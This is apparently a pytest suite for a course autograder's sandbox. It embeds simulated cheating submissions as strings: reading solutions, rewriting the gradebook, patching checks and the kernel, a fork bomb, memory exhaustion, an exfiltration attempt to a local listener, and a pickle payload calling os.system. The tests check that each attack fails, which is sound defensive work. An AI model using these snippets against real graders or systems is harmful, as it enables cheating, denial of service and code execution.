"""Grading in isolation (course_lib.grader), tried as a student out to cheat or to break grading would.

One class of a0 submissions goes through `course-lib grade` (what `make grade` runs): two correct
students, graded before and after everyone else, and submissions that read the solutions or the
gradebook, write to them or to the course library, shadow names the tests use, ship a module beside
the notebook, rewire the kernel, patch the checks, mark their own cells as tests (or their answer as a
test, or a second copy of a test's id), call a forbidden implementation by a route the old
``forbid`` did not reach, leave a process behind, reach the network, exit, ignore interrupts, exhaust
memory or processes, or flood the output. Every attacker must earn nothing, the correct students must
keep full marks, the run must finish with grades.csv, feedback and a report, and nothing of the course
folder may change. The wire format is tested on its own: the checker never unpickles.
"""
import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from gradeutil import nbgrader_meta, solution_only

pytestmark = [pytest.mark.xdist_group("grading_isolation"),
              pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (make sandbox)")]

ROOT = Path(__file__).resolve().parents[1]
COURSE_LIB = str(Path(sys.executable).parent / "course-lib")
STUB = "def class_probabilities(model, images):\n    return torch.zeros(len(images), 10)\n"


def _attacks(root: Path, port: int) -> dict[str, tuple[str | None, str | None, dict]]:
    """student -> (answer cell code or None for the correct one, an extra cell or None, extra files)."""
    r = str(root)
    return {
        "read-solutions": (
            "import os\n"
            f"SRC = {r + '/solutions/a0_setup/a0_setup.ipynb'!r}\n"
            f"print('SEEN', os.path.exists(SRC), os.path.exists({r + '/gradebook.db'!r}), os.path.exists({r!r}))\n"
            "if os.path.exists(SRC):\n"
            "    import json, re\n"
            "    cells = json.load(open(SRC))['cells']\n"
            "    exec(next(''.join(c['source']) for c in cells if 'def class_probabilities' in ''.join(c['source'])))\n"
            "else:\n" + "".join("    " + l + "\n" for l in STUB.splitlines()), None, {}),
        "write-gradebook": (STUB + (
            "import sqlite3\n"
            "try:\n"
            f"    db = sqlite3.connect({r + '/gradebook.db'!r})\n"
            "    db.execute(\"update grade set manual_score = 100\")\n"
            "    db.execute(\"update grade_cells set source = 'pass'\")\n"
            "    db.commit()\n"
            "except Exception as e:\n"
            "    print('DENIED', type(e).__name__)\n"), None, {}),
        "overwrite-library": (STUB + (
            "import course_lib.grading as g\n"
            "for path in (g.__file__, " + repr(r + "/nbgrader_config.py") + ", " + repr(r + "/solutions/a0_setup/a0_setup.ipynb") + "):\n"
            "    try:\n"
            "        open(path, 'w').write('check = lambda *a, **k: None\\n')\n"
            "    except Exception as e:\n"
            "        print('DENIED', type(e).__name__)\n"), None, {}),
        "shadow-names": (STUB + (
            "import builtins\n"
            "builtins.abs = lambda x: 0.0\n"
            "builtins.float = lambda x=0: 0.0\n"
            "float = lambda x=0: 0.0\n"
            "torch.equal = lambda *a, **k: True\n"
            "torch.allclose = lambda *a, **k: True\n"), None,
            {"torch.py": "raise SystemExit('a student module was imported')\n",
             "course_lib.py": "raise SystemExit('a student module was imported')\n"}),
        "kernel-hooks": (STUB + (
            "ip = get_ipython()\n"
            "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            "def _forget(result):\n    result.error_in_exec = None\n"
            "ip.events.register('post_run_cell', _forget)\n"
            "ip.run_code = lambda *a, **k: None\n"
            "import builtins\n_compile = builtins.compile\n"), None, {}),
        "patch-checks": (STUB + (
            "import course_lib.grading as g\n"
            "g.check = g.check_close = g.check_shape = g.check_type = lambda *a, **k: None\n"
            "check = check_close = check_shape = lambda *a, **k: None\n"
            "import builtins\n"
            "class _Quiet(Exception):\n    pass\n"
            "builtins.AssertionError = _Quiet\n"), None, {}),
        "rewire-while-called": (
            "def class_probabilities(model, images):\n"
            "    ip = get_ipython()\n"
            "    ip.run_code = lambda *a, **k: None\n"
            "    import sys\n"
            "    sys.settrace(lambda *a: None)\n"
            "    return torch.zeros(len(images), 10)\n", None, {}),
        "network": (STUB + (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
            "    print('CONNECTED')\n"
            "except Exception as e:\n"
            "    print('DENIED', type(e).__name__)\n"), None, {}),
        "leave-a-process": (STUB + (
            "import subprocess, os\n"
            "subprocess.Popen(['sleep', '3671'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    import time\n"
            "    time.sleep(3672)\n"), None, {}),
        # cells the submission's metadata calls tests (the checker runs test cells outside the sandbox)
        "fake-test-cell": (STUB, {"source": _escape(r, "fake-test-cell"), "nbgrader": {
            "grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus", "schema_version": 3}}, {}),
        "answer-made-a-test": ({"source": STUB + _escape(r, "answer-made-a-test"), "nbgrader": {
            "grade": True, "solution": False, "locked": True, "points": 3}}, None, {}),
        "test-id-twice": (STUB, {"source": "pass", "nbgrader": {
            "grade": True, "solution": False, "locked": True, "points": 1, "grade_id": "test_probabilities_visible",
            "schema_version": 3}, "before": "test_probabilities_visible"}, {}),
        "exit-kernel": (None, "import os\nos._exit(0)", {}),
        "ignore-interrupt": (None, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass", {}),
        "exhaust-memory": (None, "blocks = []\nwhile True:\n    blocks.append(bytearray(256 << 20))\n"
                                 "    blocks[-1][::4096] = b'x' * len(blocks[-1][::4096])", {}),
        "fork-bomb": (None, "import os, time\nkids = 0\ntry:\n    while True:\n        if os.fork() == 0:\n"
                            "            time.sleep(3673)\n            os._exit(0)\n        kids += 1\n"
                            "except OSError as e:\n    print('STOPPED AFTER', kids, type(e).__name__)", {}),
        "flood-output": (None, "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 1_000_000)\n"
                               "    sys.stderr.write('y' * 1_000_000)", {}),
    }


def _escape(root: str, name: str) -> str:
    """Code that, run by the checker outside the sandbox, would leave a file in the course folder."""
    return f"\nopen({root + '/ESCAPED-' + name!r}, 'w').write('run outside the sandbox')\n"


def _course(tmp: Path) -> Path:
    root = tmp / "course"
    root.mkdir()
    cfg = (ROOT / "nbgrader_config.py").read_text()
    cfg += ("\nc.Execute.timeout = 30\nc.CourseGrader.memory_bytes = 3 * 1024**3\nc.CourseGrader.max_processes = 64\n")
    (root / "nbgrader_config.py").write_text(cfg)
    shutil.copytree(ROOT / "solutions" / "a0_setup", root / "solutions" / "a0_setup")
    shutil.copytree(ROOT / "assignments" / "a0_setup", root / "assignments" / "a0_setup")
    return root


def _submit(root: Path, student: str, answer: str | None, extra: str | None, files: dict):
    rel = nbformat.read(str(root / "assignments" / "a0_setup" / "a0_setup.ipynb"), as_version=4)
    src = nbformat.read(str(root / "solutions" / "a0_setup" / "a0_setup.ipynb"), as_version=4)
    ref = next(c.source for c in src.cells if nbgrader_meta(c).get("grade_id") == "class_probabilities")
    for i, c in enumerate(rel.cells):
        if nbgrader_meta(c).get("grade_id") == "class_probabilities":
            if isinstance(answer, dict):  # an answer cell whose metadata the student rewrote
                c.source = answer["source"]
                c.metadata["nbgrader"].update(answer["nbgrader"])
            else:
                c.source = solution_only(ref) if answer is None else answer
            at = i + 1
    if isinstance(extra, dict):  # a cell with nbgrader metadata of the student's making
        cell = nbformat.v4.new_code_cell(extra["source"])
        cell.metadata["nbgrader"] = dict(extra["nbgrader"])
        if "before" in extra:
            at = next(i for i, c in enumerate(rel.cells) if nbgrader_meta(c).get("grade_id") == extra["before"])
        rel.cells.insert(at, cell)
    elif extra is not None:
        rel.cells.insert(at, nbformat.v4.new_code_cell(extra))
    folder = root / "submitted" / student / "a0_setup"
    folder.mkdir(parents=True)
    nbformat.write(rel, str(folder / "a0_setup.ipynb"))
    for name, text in files.items():
        (folder / name).write_text(text)


def _listener():
    """A server on the host's loopback that records any connection (the sandbox has no network)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.5)
    got, stop = [], threading.Event()

    def run():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
                got.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    threading.Thread(target=run, daemon=True).start()
    return srv, got, stop


@pytest.mark.slow
def test_attackers_earn_nothing_and_harm_no_one(tmp_path):
    root = _course(tmp_path)
    srv, connections, stop = _listener()
    attacks = _attacks(root, srv.getsockname()[1])
    _submit(root, "aa-correct", None, None, {})
    for student, (answer, extra, files) in attacks.items():
        _submit(root, student, answer, extra, files)
    _submit(root, "zz-correct", None, None, {})
    before = {p: p.read_bytes() for p in list((root / "solutions").rglob("*")) + [root / "nbgrader_config.py"] if p.is_file()}
    lib_before = {p: p.read_bytes() for p in (ROOT / "course_lib").rglob("*.py")}
    env = dict(os.environ, PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))
    env.pop("NBGRADER_EXECUTION", None)
    try:
        out = subprocess.run([COURSE_LIB, "grade", str(root), "--jobs", "2", "--no-progress"], cwd=root, env=env,
                             capture_output=True, text=True, timeout=1500)
    finally:
        stop.set()
        srv.close()
    report = out.stdout + out.stderr
    assert (root / "grades.csv").is_file(), report[-4000:]
    scores = {}
    with open(root / "grades.csv") as f:
        for row in csv.DictReader(f):
            scores[row["student_id"]] = float(row["score"])
    # the two correct students, before and after everyone else, keep their 3 automatic points
    assert scores["aa-correct"] == 3 and scores["zz-correct"] == 3, (scores, report[-3000:])
    # a correct answer followed by a cell that floods the output or forks until the limit keeps its points (it spoiled
    # nothing); every other attack earns nothing (exiting, ignoring interrupts or exhausting memory after a correct
    # answer spoils the cells after it)
    for student in attacks:
        want = 3 if student in ("flood-output", "fork-bomb") else 0
        assert scores[student] == want, f"the attack '{student}' earned {scores[student]} points:\n{report[-3000:]}"
    for student in ("aa-correct", "zz-correct", *attacks):
        assert list((root / "feedback" / student / "a0_setup").glob("*.html")), f"no feedback for {student}"
    # nothing of the course changed, and the grader says so
    assert {p: p.read_bytes() for p in before} == before
    assert {p: p.read_bytes() for p in (ROOT / "course_lib").rglob("*.py")} == lib_before
    assert "are unchanged (sha256)" in report, report[-2000:]
    assert not connections, f"a submission reached the host's network: {connections}"
    escaped = sorted(p.name for p in root.glob("ESCAPED-*"))
    assert not escaped, f"student code ran outside the sandbox: {escaped}"
    # what the attackers saw, in their own autograded notebooks
    def outputs(student):
        nb = nbformat.read(str(root / "autograded" / student / "a0_setup" / "a0_setup.ipynb"), as_version=4)
        return "\n".join(o.get("text", "") + o.get("evalue", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    assert "SEEN False False False" in outputs("read-solutions")
    assert "DENIED" in outputs("write-gradebook") and "DENIED" in outputs("overwrite-library")
    assert "DENIED" in outputs("network") and "CONNECTED" not in outputs("network")
    assert "STOPPED AFTER" in outputs("fork-bomb")
    assert len(outputs("flood-output")) < 2_000_000
    # every process a submission started ended with it
    left = subprocess.run(["pgrep", "-f", "sleep 367[123]"], capture_output=True, text=True).stdout.split()
    assert not left, f"processes started by submissions outlived grading: {left}"
    # the report names what happened
    rows = {r["student"]: r for r in json.loads((root / "grading-report.json").read_text())}
    assert rows["exit-kernel"]["ended"], rows["exit-kernel"]
    assert rows["exhaust-memory"]["ended"] and "memory" in rows["exhaust-memory"]["ended"][0], rows["exhaust-memory"]
    assert rows["ignore-interrupt"]["timeouts"], rows["ignore-interrupt"]
    assert rows["patch-checks"]["tamper"] and rows["kernel-hooks"]["tamper"]


def test_a_cells_role_is_the_instructors():
    """restore_roles: what the submission's metadata claims about a cell never decides whether the checker
    runs it; the instructor's notebook does, by grade_id."""
    from course_lib.grader.cells import is_answer_cell, is_test_cell, restore_roles

    def cell(src, **nbg):
        c = nbformat.v4.new_code_cell(src)
        if nbg:
            c.metadata["nbgrader"] = {"schema_version": 3, "locked": False, "solution": False, "grade": False, **nbg}
        return c
    source = nbformat.v4.new_notebook(cells=[
        cell("import math", grade_id="setup", locked=True),
        cell("def f(x):\n    return x", grade_id="f", solution=True),
        cell("assert f(2) == 2", grade_id="test_f", grade=True, locked=True, points=2),
    ])
    sub = nbformat.v4.new_notebook(cells=[
        cell("import os  # edited setup", grade_id="setup", locked=True),
        cell("EVIL_1", grade_id="f", solution=False, grade=True, locked=True, points=9),  # answer made a test
        cell("EVIL_2", grade_id="bonus", grade=True, locked=True, points=50),  # a test of its own
        cell("EVIL_3", grade_id="test_f", grade=True, locked=True, points=2),  # a first copy of a test id
        cell("pass", grade_id="test_f", grade=True, locked=True, points=20),  # the copy nbgrader keeps
        cell("EVIL_4"),
    ])
    notes = restore_roles(sub, source)
    tests = [c for c in sub.cells if is_test_cell(c)]
    assert [c.source for c in tests] == ["assert f(2) == 2"] and tests[0].metadata["nbgrader"]["points"] == 2
    assert sub.cells[0].source == "import math"  # read-only: the instructor's
    assert is_answer_cell(sub.cells[1]) and sub.cells[1].source == "EVIL_1"  # still the student's answer
    for i in (2, 3, 5):  # plain student code: it runs in the sandbox, for no points
        assert "nbgrader" not in sub.cells[i].metadata and sub.cells[i].source.startswith("EVIL")
    assert len(notes) == 4, notes


# ------------------------------------------------------------------------------- the wire, alone

def test_the_checker_never_unpickles():
    import pickle

    from course_lib.grader import wire

    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned",))

    r, w = os.pipe()
    blob = pickle.dumps(Evil())
    wire.send(w, {"op": "reply", "value": {"bytes": 0}}, [blob])
    head, bufs = wire.recv(r)
    value = wire.decode(head["value"], bufs, lambda d: d)
    assert value == blob  # bytes stay bytes
    for bad in ({"tensor": 0, "dtype": "object", "shape": [1]}, {"array": 0, "dtype": "O", "shape": [1]},
                {"pickle": 0}, {"h": "1"}, {"tensor": 5, "dtype": "float32", "shape": [1]},
                {"tensor": 0, "dtype": "float32", "shape": [1000]}, [1, 2]):
        with pytest.raises(wire.WireError):
            wire.decode(bad, bufs, lambda d: d)
    os.close(r)
    os.close(w)


def test_values_cross_as_data():
    import numpy as np
    import torch

    from course_lib.grader import wire

    value = {"t": torch.arange(6.0).reshape(2, 3).requires_grad_(True), "b": torch.ones(2, dtype=torch.bfloat16),
             "a": np.eye(2), "n": [1, 2.5, None, True, "s", (3, 4), {5}], "big": 2**70, "g": torch.float64}
    buffers: list = []
    handles = []
    desc = wire.encode({**value, "f": len}, buffers, lambda o: handles.append(o) or len(handles))
    back = wire.decode(json.loads(json.dumps(desc)), buffers, lambda d: ("handle", d["h"]))
    assert torch.equal(back["t"], value["t"].detach()) and back["t"].requires_grad
    assert back["b"].dtype == torch.bfloat16 and np.array_equal(back["a"], value["a"])
    assert back["n"] == value["n"] and back["big"] == 2**70 and back["g"] is torch.float64
    assert back["f"] == ("handle", 1) and handles == [len]


# ------------------------------------------------------------------- the channel, with a real sandbox

@pytest.fixture
def student(tmp_path):
    from course_lib.grader import remote, sandbox

    work = tmp_path / "work"
    work.mkdir()
    st = remote.Student(sandbox.start(work, limits=sandbox.Limits()), timeout=120)
    yield st
    st.close()


def _define(student, code):
    reply = student.run(code)
    assert "error" not in reply, reply


def test_callbacks_keep_the_tests_insides(student):
    import torch

    from course_lib.grader.remote import StudentError

    _define(student, "def peek(f):\n    return f.__globals__['SECRET']\n"
                     "def peek2(f):\n    return f._memo\n"
                     "def use(f, x):\n    return f(x) + 1\n")
    ns = {"SECRET": "the expected answer"}
    exec("class Game:\n    def __init__(self):\n        self._memo = SECRET\n        self.n_players = 3\n"
         "    def __call__(self, x):\n        return x * 2\n", ns)
    game, fn = ns["Game"](), eval("lambda x: x * 2", ns)
    assert student.get("use")(game, torch.ones(2)).tolist() == [3.0, 3.0]  # the game is called back, here
    for f in ("peek", "peek2"):
        with pytest.raises((AttributeError, StudentError, RuntimeError)) as err:
            student.get(f)(fn if f == "peek" else game)
        assert "the expected answer" not in str(err.value)


def test_gradients_cross_both_ways(student):
    import torch

    _define(student, "import torch\n"
                     "def f(x):\n    return (x ** 2).sum()\n"
                     "def g(h, x):\n    x = x.clone().requires_grad_(True)\n    h(x).backward()\n    return x.grad\n")
    x = torch.tensor([1.0, -2.0, 3.0], requires_grad=True)
    student.get("f")(x).backward()  # the student's graph, the checker's leaf
    assert torch.allclose(x.grad, 2 * x.detach())
    got = student.get("g")(lambda t: (t ** 3).sum(), torch.tensor([1.0, 2.0]))  # the checker's graph, the student's leaf
    assert torch.allclose(got, torch.tensor([3.0, 12.0]))


def test_models_and_optimizers_keep_their_state(student):
    import torch

    _define(student, "import torch\n"
                     "def step(net, opt, x):\n    opt.zero_grad()\n    loss = net(x).pow(2).sum()\n    loss.backward()\n"
                     "    opt.step()\n    return float(loss)\n")
    torch.manual_seed(0)
    net, ref = torch.nn.Linear(3, 2), torch.nn.Linear(3, 2)
    ref.load_state_dict(net.state_dict())
    opt, opt_ref = torch.optim.Adam(net.parameters(), lr=0.1), torch.optim.Adam(ref.parameters(), lr=0.1)
    x = torch.randn(5, 3)
    for _ in range(3):
        student.get("step")(net, opt, x)
        opt_ref.zero_grad()
        ref(x).pow(2).sum().backward()
        opt_ref.step()
        for p, q in zip(net.parameters(), ref.parameters()):
            assert torch.allclose(p, q, atol=1e-6)


def test_forbidden_modules_are_absent_however_reached(tmp_path):
    from course_lib.grader import remote, sandbox
    from course_lib.grader.remote import StudentError

    work = tmp_path / "work"
    work.mkdir()
    st = remote.Student(sandbox.start(work, limits=sandbox.Limits(), forbidden=["course_lib.methods.shapley", "captum"]),
                        timeout=120)
    try:
        _define(st, "import importlib, importlib.util, inspect\n"
                    "from course_lib.methods.shapley import exact_shapley as _e\n"
                    "def by_default(g, _f=_e):\n    return _f(g)\n"
                    "def by_importlib(g):\n    return importlib.import_module('course_lib.methods.shapley').exact_shapley(g)\n"
                    "def by_file(g):\n"
                    "    path = importlib.util.find_spec('course_lib.methods.shapley').origin\n"
                    "    ns = {}\n    exec(open(path).read(), ns)\n    return ns['exact_shapley'](g)\n"
                    "def by_captum():\n    import captum.attr\n    return captum.attr.Saliency\n"
                    "def allowed():\n    import course_lib.games, course_lib.methods.lime\n    return 1\n")
        for name in ("by_default", "by_importlib", "by_file"):
            with pytest.raises((AssertionError, StudentError, KeyError)):
                st.get(name)(lambda m: m.sum(1))
        with pytest.raises((ImportError, ModuleNotFoundError, StudentError, AssertionError)):
            st.get("by_captum")()
        assert st.get("allowed")() == 1
    finally:
        st.close()


@pytest.mark.slow
def test_a_mistake_costs_its_own_exercise_only_when_isolated(tmp_path):
    """a1 with a wrong sampler (it never removes a feature): only the sampler's test fails, since the tests of
    lime_explain and the stability curve swap the reference sampler into the student's process (globals())."""
    from course_lib.grader import classroom

    root = tmp_path / "course"
    for d in ("solutions", "assignments"):
        shutil.copytree(ROOT / d / "a1_lime", root / d / "a1_lime")
    shutil.copy(ROOT / "nbgrader_config.py", root)
    src = nbformat.read(str(root / "solutions" / "a1_lime" / "a1_lime.ipynb"), as_version=4)
    nb = nbformat.read(str(root / "assignments" / "a1_lime" / "a1_lime.ipynb"), as_version=4)
    answers = {nbgrader_meta(c).get("grade_id"): c.source for c in src.cells if nbgrader_meta(c).get("solution")}
    for c in nb.cells:
        gid = nbgrader_meta(c).get("grade_id")
        if nbgrader_meta(c).get("solution") and c.cell_type == "code":
            c.source = solution_only(answers[gid])
        if gid == "sample_masks":
            c.source = ("def sample_masks(n_players, n_samples, seed):\n"
                        "    return torch.ones(n_samples, n_players, dtype=torch.bool)\n")
    (root / "submitted" / "s" / "a1_lime").mkdir(parents=True)
    nbformat.write(nb, str(root / "submitted" / "s" / "a1_lime" / "a1_lime.ipynb"))
    job = classroom.make_job(root, classroom.Submission("s", "a1_lime", "a1_lime.ipynb"), unsafe=False,
                             cfg=classroom.settings(root))
    res = classroom.run_job(job)
    assert "summary" in res, res.get("error")
    failed = {c["grade_id"] for c in res["summary"]["cells"] if not c["passed"]}
    assert failed == {"test_sample_masks"}, res["summary"]["cells"]


def test_a_process_that_stops_answering_cannot_hold_the_checker(tmp_path):
    """A submission that rewires its own agent to hang on the checker's requests (and ignores SIGINT) is ended
    after a cell's time limit; the checker goes on."""
    import time

    from course_lib.grader import remote, sandbox

    work = tmp_path / "work"
    work.mkdir()
    st = remote.Student(sandbox.start(work, limits=sandbox.Limits()), timeout=8)
    try:
        _define(st, "import gc, signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nx = 1\n"
                    "for o in gc.get_objects():\n"
                    "    if type(o).__name__ == 'Agent':\n"
                    "        o.dispatch = lambda *a, **k: time.sleep(10**6)\n")
        t0 = time.monotonic()
        with pytest.raises((remote.StudentDead, remote.CellTimeout)):
            st.get("x")
        assert time.monotonic() - t0 < 8 + 5 + 10
        assert st.dead
        with pytest.raises(remote.StudentDead):
            st.get("x")
    finally:
        st.close()


def _grade_direct(tmp_path, src, sub, timeout=30):
    from course_lib.grader import checker

    for name, nb in (("source", src), ("submitted", sub)):
        nbformat.write(nb, str(tmp_path / f"{name}.ipynb"))
    (tmp_path / "release").mkdir()
    summary = checker.grade({"submitted": str(tmp_path / "submitted.ipynb"), "source": str(tmp_path / "source.ipynb"),
                             "release_dir": str(tmp_path / "release"), "out": str(tmp_path / "out.ipynb"), "timeout": timeout,
                             "limits": {}, "forbidden": [], "unsafe": False, "cache_dir": None})
    return summary, nbformat.read(str(tmp_path / "out.ipynb"), as_version=4)


def _passed(folder, src, sub):
    folder.mkdir()
    return [c["passed"] for c in _grade_direct(folder, src, sub)[0]["cells"]]


def _cell(src, **nbg):
    c = nbformat.v4.new_code_cell(src)
    if nbg:
        c.metadata["nbgrader"] = {"schema_version": 3, "locked": False, "solution": False, "grade": False, **nbg}
    return c


def test_names_a_submission_rebinds_stay_the_checkers(tmp_path):
    """A test reads from the student's process only what the instructor's answer cells define: a submission that
    imports a module the test uses and patches it, or rebinds the test's data or helpers, changes nothing."""
    src = nbformat.v4.new_notebook(cells=[
        _cell("import math\nfrom course_lib.grading import check\nxs = [1.0, 2.0, 3.0]", grade_id="setup", locked=True),
        _cell("import math\n\ndef f(x):\n    return x * x", grade_id="f", solution=True),
        _cell("check(all(math.isclose(f(x), x * x) for x in xs), 'f squares')", grade_id="test_f", grade=True, locked=True,
              points=1)])
    wrong = ("import math\nmath.isclose = lambda *a, **k: True\nxs = []\ncheck = lambda *a, **k: None\n"
             "def f(x):\n    return 0.0")
    sub = nbformat.v4.new_notebook(cells=[src.cells[0], _cell(wrong, grade_id="f", solution=True), src.cells[2]])
    summary, _ = _grade_direct(tmp_path, src, sub)
    assert summary["cells"][0]["passed"] is False, summary
    right = nbformat.v4.new_notebook(cells=[src.cells[0], _cell("def f(x):\n    return x ** 2", grade_id="f",
                                                                  solution=True), src.cells[2]])
    (tmp_path / "again").mkdir()
    summary, _ = _grade_direct(tmp_path / "again", src, right)
    assert summary["cells"][0]["passed"] is True, summary


def test_a_reference_a_test_lent_cannot_answer_a_later_test(tmp_path):
    """A test that swaps the reference f in to grade g alone lends the student's process a callback; code that
    keeps it cannot call it once that test is over (the student's f then fails its own test)."""
    src = nbformat.v4.new_notebook(cells=[
        _cell("from course_lib.grading import check", grade_id="setup", locked=True),
        _cell("def f(x):\n    return x * x", grade_id="f", solution=True),
        _cell("def g(x):\n    return f(x) + 1", grade_id="g", solution=True),
        _cell("def _ref_f(x):\n    return x * x\n_theirs = globals()['f']\nglobals()['f'] = _ref_f\n"
              "check(g(3) == 10, 'g adds one to f')\nglobals()['f'] = _theirs", grade_id="test_g", grade=True, locked=True,
              points=1),
        _cell("check(f(4) == 16, 'f squares')", grade_id="test_f", grade=True, locked=True, points=1)])
    keeper = ("import builtins\n\ndef f(x):\n    kept = getattr(builtins, '_kept', None)\n"
              "    return kept(x) if kept is not None else 0\n")
    thief = "import builtins\n\ndef g(x):\n    builtins._kept = f\n    return f(x) + 1\n"
    sub = nbformat.v4.new_notebook(cells=[src.cells[0], _cell(keeper, grade_id="f", solution=True),
                                          _cell(thief, grade_id="g", solution=True), src.cells[3], src.cells[4]])
    assert _passed(tmp_path / "wrong", src, sub) == [True, False]
    assert _passed(tmp_path / "right", src, src) == [True, True]


def test_a_model_the_student_changed_is_the_instructors_again_in_the_next_test(tmp_path):
    """In place, the student's code changes the checker's model within a test (an optimiser step must show);
    the next test cell sees the instructor's model again, so zeroing it cannot make later checks agree."""
    src = nbformat.v4.new_notebook(cells=[
        _cell("import torch\nfrom course_lib.grading import check\nmodel = torch.nn.Linear(3, 4)\n"
              "with torch.no_grad():\n    model.weight.copy_(torch.arange(12.).reshape(4, 3) / 10 - 0.5)\n    model.bias.zero_()\n"
              "x = torch.tensor([[1., 0., 0.], [0., 1., 0.], [0., 0., 1.], [1., 1., 1.]])", grade_id="setup", locked=True),
        _cell("def predict(model, x):\n    with torch.no_grad():\n        return model(x).argmax(1)", grade_id="predict",
              solution=True),
        _cell("check(predict(model, x).shape == (4,), 'one class per row')", grade_id="test_shape", grade=True,
              locked=True, points=1),
        _cell("with torch.no_grad():\n    want = model(x).argmax(1)  # [3, 3, 3, 3]; a zeroed model gives [0, 0, 0, 0]\n"
              "check(torch.equal(predict(model, x), want), 'the argmax of the logits')", grade_id="test_argmax",
              grade=True, locked=True, points=1)])
    zeroing = ("def predict(model, x):\n    with torch.no_grad():\n        for p in model.parameters():\n"
               "            p.zero_()\n    return torch.zeros(len(x), dtype=torch.long)")
    sub = nbformat.v4.new_notebook(cells=[src.cells[0], _cell(zeroing, grade_id="predict", solution=True), *src.cells[2:]])
    assert _passed(tmp_path / "wrong", src, sub) == [True, False]
    assert _passed(tmp_path / "right", src, src) == [True, True]


def test_many_slow_cells_cannot_hold_a_grading_slot(tmp_path):
    """The student's own cells share one time budget (the cell limit times the assignment's code cells): extra
    cells that each stop just short of the limit are not run past it, and the tests after them still run."""
    answer = "def f(x):\n    return 2 * x"
    src = nbformat.v4.new_notebook(cells=[_cell(answer, grade_id="f", solution=True),
                                          _cell("assert f(3) == 6", grade_id="test_f", grade=True, locked=True, points=1)])
    sub = nbformat.v4.new_notebook(cells=[src.cells[0]] + [_cell("import time\ntime.sleep(4.5)") for _ in range(6)]
                                   + [src.cells[1]])
    summary, out = _grade_direct(tmp_path, src, sub, timeout=6)
    refused = [any(o.get("ename") == "TimeBudgetExceeded" for o in c.outputs) for c in out.cells]
    assert any(refused), [c.outputs for c in out.cells]
    first = refused.index(True)  # every cell after the budget ran out is refused, none before
    assert all(refused[first:7]) and not any(refused[:first])
    used = sum(c.metadata["course_lib"]["seconds"] for c in out.cells[:first])
    assert 12 < used < 12 + 6 + 1, used  # the budget (6 s x 2 code cells) was spent, by at most one cell more
    assert summary["cells"] == [{"grade_id": "test_f", "passed": True, "seconds": summary["cells"][0]["seconds"],
                                 "traffic": summary["cells"][0]["traffic"]}]
